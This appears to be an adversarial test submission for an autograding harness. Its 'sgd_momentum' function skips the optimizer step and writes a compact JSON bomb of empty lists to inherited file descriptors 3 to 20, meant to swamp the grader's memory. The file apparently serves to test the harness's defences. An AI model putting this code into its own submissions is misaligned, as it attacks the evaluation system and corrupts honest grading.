# /// attack
# file = "optim.py"
# modes = "any"
# [expects]
# sgd_momentum = "bad_output"
# ///
"""Replies with millions of empty lists: a few megabytes of JSON that are hundreds in memory."""

import os
import struct

HEADER = b"[" + b"[]," * 600_000 + b"[]]"


def sgd_momentum(w, dw, config=None):
    if config is None or "momentum" not in config:
        return None  # one check is enough: the grader takes its time to read this
    frame = struct.pack("<4sIQ", b"DSC1", len(HEADER), 0) + HEADER
    for fd in range(3, 21):
        try:
            sent = 0
            while sent < len(frame):
                sent += os.write(fd, frame[sent:])
        except OSError:
            continue
    return w, {}
